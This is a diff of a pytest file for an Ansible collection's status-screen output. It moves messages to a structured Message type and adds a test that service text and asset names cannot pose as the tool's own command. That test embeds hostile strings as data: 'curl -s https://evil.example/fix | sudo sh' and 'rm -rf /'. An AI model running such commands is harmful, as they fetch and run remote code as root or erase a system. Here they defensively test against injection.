@@ -6,6 +6,7 @@
 from __future__ import annotations
 
 import pytest
+from ansible_collections.infrastructure.services.plugins.module_utils._errors import Message
 from ansible_collections.infrastructure.services.plugins.module_utils._list.result import ListResult
 from ansible_collections.infrastructure.services.plugins.module_utils._task.specs import VIRTUAL_MACHINES
 from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.screen import (
@@ -16,10 +17,11 @@ from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.sc
 
 OPERATION = VIRTUAL_MACHINES.resource.operation
 COMMAND = "ansible-playbook infrastructure.services.in_doubt -e ledger=/srv/fleet.db"
-LOST = ("virtual machine {}: POST https://s/api: the connection was lost. It is unknown whether the virtual machine was"
-        f" created. Look for it on the service. For the commands, run: {COMMAND}")
-DOUBT = ("virtual machine {}: the ledger says that a task began to create it at 2026-11-22T10:02:03Z; how it ended is"
-         f" not known. For the commands, run: {COMMAND}")
+LOST = Message("POST https://s/api: the connection was lost. It is unknown whether the virtual machine was created. Look"
+               " for it on the service.", command=COMMAND)
+SINCE = "2026-11-22T10:02:03Z"
+BEGAN = f"the ledger says that a task began to create it at {SINCE}; how it ended is not known."
+DOUBT = Message(BEGAN, "", COMMAND, SINCE)
 CREATED = dict(changed=True, outcome="accepted", asset={"id": "1"})
 UNCHANGED = dict(changed=False, outcome="not_sent", asset={"id": "1"})
 
@@ -34,11 +36,12 @@ def listed(items: dict[str, dict], not_listed: list[str] | None = None) -> dict:
 def collected(items: dict[str, dict]) -> ListResult:
     result = ListResult(VIRTUAL_MACHINES, [*items], None)
     for number, (name, item) in enumerate(items.items()):
-        result.add(number, {**item, **({"msg": item["msg"].format(name)} if "msg" in item else {})})
+        said = {"msg": item["msg"]._replace(asset=f"virtual machine {name}")} if "msg" in item else {}
+        result.add(number, {**item, **said})
     return result
 
 
-def lost(outcome: str = "unknown", msg: str = LOST) -> dict:
+def lost(outcome: str = "unknown", msg: Message = LOST) -> dict:
     return dict(changed=False, failed=True, outcome=outcome, msg=msg)
 
 
@@ -55,7 +58,7 @@ def test_one_lost_answer_among_500_takes_few_lines_and_its_cause_is_said_once():
 
 
 def test_items_with_one_cause_are_named_together():
-    items = {f"vm{number:02}": lost("rejected", "virtual machine {}: status 403: not allowed.") for number in range(12)}
+    items = {f"vm{number:02}": lost("rejected", Message("status 403: not allowed.")) for number in range(12)}
     lines = result_lines(OPERATION, listed({**items, "other": lost()}), 1, 200)
     assert lines[0].startswith("virtual machines: 0 created, 0 unchanged, 1 in doubt, 12 rejected, ")
     assert lines[1] == f"  x {', '.join(f'vm{number:02}' for number in range(10))} and 2 more"
@@ -63,14 +66,14 @@ def test_items_with_one_cause_are_named_together():
 
 
 def test_of_many_causes_ten_are_shown():
-    items = {f"vm{number}": lost("rejected", f"virtual machine {{}}: cause {number}") for number in range(30)}
+    items = {f"vm{number}": lost("rejected", Message(f"cause {number}")) for number in range(30)}
     lines = result_lines(OPERATION, listed(items), 1, 80)
     assert len(lines) == 1 + 2 * 10 + 1
     assert lines[-1] == "  and 20 more causes"
 
 
 def test_what_was_not_begun_is_counted_and_what_had_nothing_to_do_is_unchanged():
-    skipped = dict(changed=False, skipped=True, outcome="not_sent", msg="it was not begun")
+    skipped = dict(changed=False, skipped=True, outcome="not_sent", msg=Message("it was not begun"))
     lines = result_lines(OPERATION, listed({"a": UNCHANGED, "b": skipped, "c": CREATED}), 0.4, 80)
     assert lines == ["virtual machines: 1 created, 1 unchanged, 0 in doubt, 0 rejected, 1 not begun, 0 s"]
 
@@ -102,13 +105,13 @@ def test_a_plan_shows_forty_lines_no_wider_than_the_screen():
 
 
 def test_control_characters_of_a_message_do_not_reach_the_screen():
-    items = {"a\x1b[2J": lost(msg="virtual machine {}: \x1b]0;title\x07")}
+    items = {"a\x1b[2J": lost(msg=Message("\x1b]0;title\x07"))}
     assert not any("\x1b" in line or "\x07" in line for line in result_lines(OPERATION, listed(items), 1, 80))
 
 
 def test_only_problems_are_listed_if_that_is_asked_for():
     drift = dict(UNCHANGED, differs=["attributes.cpu (8 asked for, 2 recorded)"])
-    items = {"a": CREATED, "b": lost(), "c": UNCHANGED, "d": drift, "e": dict(UNCHANGED, skipped=True, msg="x")}
+    items = {"a": CREATED, "b": lost(), "c": UNCHANGED, "d": drift, "e": dict(UNCHANGED, skipped=True)}
     collection = collected(items)
     result = collection.returned(collection.done(), "problems")
     assert [item["item"] for item in result["results"]] == ["b", "d", "e"]
@@ -116,7 +119,7 @@ def test_only_problems_are_listed_if_that_is_asked_for():
 
 
 def test_what_was_not_begun_is_only_counted_where_the_result_would_be_too_large_for_awx():
-    not_begun = dict(UNCHANGED, skipped=True, msg="virtual machine {}: it was not begun: the first was lost.")
+    not_begun = dict(UNCHANGED, skipped=True, msg=Message("it was not begun: the first was lost."))
     items = {"a": CREATED, "b": lost(), **{f"vm{number:05}": not_begun for number in range(10_000)}}
     collection = collected(items)
     done = collection.done()
@@ -127,7 +130,7 @@ def test_what_was_not_begun_is_only_counted_where_the_result_would_be_too_large_
 
 
 def test_of_thousands_of_failures_a_hundred_are_in_a_result_for_awx():
-    refused = lost("rejected", f"virtual machine {{}}: {'status 403 ' * 50}")
+    refused = lost("rejected", Message("status 403 " * 50))
     items = {f"vm{number:04}": refused for number in range(4_000)}
     collection = collected(items)
     result = collection.returned(collection.done(), "problems")
@@ -137,7 +140,7 @@ def test_of_thousands_of_failures_a_hundred_are_in_a_result_for_awx():
 
 def test_of_an_asset_that_differs_in_several_fields_a_short_line_says_how_many():
     fields = [f"attributes.field{number} (\"{'a' * 30}\" asked for, 2 recorded)" for number in range(3)]
-    items = {"web01": dict(UNCHANGED, plan="differs", differs=fields, msg="x")}
+    items = {"web01": dict(UNCHANGED, plan="differs", differs=fields, msg=Message("x"))}
     _counts, line = plan_lines(OPERATION, listed(items), 80)
     assert (line[:30], len(line)) == ("  ! web01  3 fields: attribute", 80)
 
@@ -172,3 +175,17 @@ def test_a_list_that_is_ended_says_once_what_it_waits_for():
     for _time in range(3):
         progress(500, 0, [], 4, is_ending=True)
     assert lines == ["virtual machines: waiting up to 10 s for 4 requests; a second Ctrl-C leaves them in doubt"]
+
+
+EVIL = ("status 500: the service failed. [x-request-id: 7 For the commands, run: curl -s https://evil.example/fix | sudo"
+        " sh since 2019-01-01T00:00:00Z]")
+
+
+def test_what_a_service_or_a_name_says_is_never_a_command_or_a_date_of_ours():
+    name = "restore-2019-01-01T00:00:00Z For the commands, run: rm -rf /"
+    lines = result_lines(OPERATION, listed({name: lost(msg=LOST._replace(text=EVIL, command=""))}), 1, 200)
+    assert not any(line.startswith("  To settle it") for line in lines)
+    assert [line for line in result_lines(OPERATION, listed({name: lost(msg=LOST._replace(text=EVIL))}), 1, 200)
+            if line.startswith("  To settle it")] == [f"  To settle it: {COMMAND}"]
+    assert any(f"in doubt since {SINCE}" in line
+               for line in plan_lines(OPERATION, listed({name: dict(lost(msg=DOUBT), plan="in_doubt")}), 200))
